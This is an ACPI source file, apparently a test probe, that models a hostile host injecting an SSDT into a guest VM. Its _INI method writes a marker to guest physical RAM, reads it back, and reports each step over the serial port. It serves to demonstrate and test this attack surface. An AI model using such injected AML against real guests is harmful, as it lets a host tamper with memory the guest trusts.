// What a hostile host would add to the guest's tables: AML that writes to RAM, reads it back, and says over the
// serial port how far it came. A line "AML 1" means that it ran, "AML 2" that it wrote, "AML 3" that it was RAM.
DefinitionBlock ("badaml.aml", "SSDT", 2, "HOST", "BADAML", 1)
{
    Device (\_SB.EVIL)
    {
        Name (_HID, "EVIL0001")
        OperationRegion (PORT, SystemIO, 0x3F8, 1)
        Field (PORT, ByteAcc, NoLock, Preserve) { CHAR, 8 }
        // Just below 1 GiB: RAM of a machine that has 2 GiB, and not in use so early.
        OperationRegion (RAM, SystemMemory, 0x3F000000, 0x1000)
        Field (RAM, DWordAcc, NoLock, Preserve) { WORD, 32 }
        Method (SAY, 1)
        {
            CHAR = 0x0A
            CHAR = 0x41
            CHAR = 0x4D
            CHAR = 0x4C
            CHAR = 0x20
            CHAR = Arg0
            CHAR = 0x0A
        }
        Method (_INI)
        {
            SAY (0x31)
            WORD = 0x4C494D41
            SAY (0x32)
            If (WORD == 0x4C494D41) { SAY (0x33) }
        }
    }
}
